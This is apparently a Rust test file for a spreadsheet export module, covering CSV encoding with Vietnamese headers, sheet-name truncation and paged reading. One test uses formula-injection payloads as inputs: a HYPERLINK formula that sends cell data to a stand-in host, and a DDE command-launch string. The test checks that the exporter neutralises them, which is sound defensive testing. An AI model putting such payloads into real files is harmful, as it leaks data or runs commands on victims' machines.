//! Exports as files: what a spreadsheet reads back.

use super::*;

fn table(rows: Vec<Vec<Cell>>) -> Export {
    Export::new(
        "t",
        columns(&[("unit", "Đơn vị"), ("value", "Giá trị")]),
        Ready(Some(rows)),
    )
}

#[test]
fn csv_has_a_bom_vietnamese_headers_and_plain_numbers() {
    let t = table(vec![
        vec!["Xã Mường La".into(), 12.0.into()],
        vec!["x".into(), Cell::Empty],
        vec!["y".into(), (-0.0).into()],
    ]);
    let text = String::from_utf8(csv_bytes(t, Lang::Vi).unwrap()).unwrap();
    assert_eq!(text, "\u{feff}Đơn vị,Giá trị\nXã Mường La,12\nx,\ny,0\n");
}

#[test]
fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() {
    let t = table(vec![
        vec![
            r#"=HYPERLINK("http://x.example/?leak="&A1,"click")"#.into(),
            (-2.0).into(),
        ],
        vec!["+cmd|' /C calc'!A0".into(), 3.0.into()],
        vec!["@SUM(1+1)".into(), Cell::Empty],
        vec!["-2+3+cmd|x".into(), Cell::Empty],
        vec!["\t=1+1".into(), Cell::Empty],
        vec!["\r=1+1".into(), Cell::Empty],
        vec![Cell::Code("-x".into(), "=vi".into()), Cell::Empty],
    ]);
    let text = String::from_utf8(csv_bytes(t, Lang::Vi).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    for row in &rows {
        assert!(row[0].starts_with('\''), "{row:?}");
    }
    assert_eq!(rows[0][1], "-2", "a negative number is a number");
    assert_eq!(rows[6][0], "'=vi");
}

#[test]
fn sheet_names_keep_the_period_whole() {
    assert_eq!(
        sheet_name("compliance_dmst-quarterly_2026Q3"),
        "compliance_dmst-quarterl_2026Q3"
    );
    assert_eq!(sheet_name("reports"), "reports");
    assert!(sheet_name("a_very_long_name_of_a_table_that_goes_on_202603").ends_with("_202603"));
    assert!(sheet_name("x".repeat(40).as_str()).chars().count() <= 31);
    assert_eq!(sheet_name("[]"), "data");
}

#[test]
fn pages_are_read_until_the_last() {
    let mut pages = Pages::new(move |after: Option<&u32>| {
        let start = after.copied().unwrap_or(0);
        let rows: Vec<Vec<Cell>> = (start..(start + 2).min(5))
            .map(|i| vec![Cell::Number(i as f64)])
            .collect();
        let last = (start + 2 < 5).then_some(start + 2);
        Ok((rows, last))
    });
    let mut n = 0;
    while let Some(batch) = pages.next_batch().unwrap() {
        n += batch.len();
    }
    assert_eq!(n, 5);
}
